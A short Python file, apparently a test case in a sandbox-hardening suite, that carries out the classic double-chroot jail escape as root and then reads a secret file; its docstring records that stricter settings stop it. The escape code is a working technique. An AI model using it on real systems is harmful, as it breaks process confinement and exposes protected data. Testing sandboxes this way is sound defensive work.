"""Leaves a change of root by a second one, the oldest way out.

Seen: an answer: it knows the secret.
Stopped at: strict, standard.
Works: as root.
Verdict: raised.
"""
import os


def attack():
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    with open(target.secret, "rb") as file:
        return target.knows(file.read())
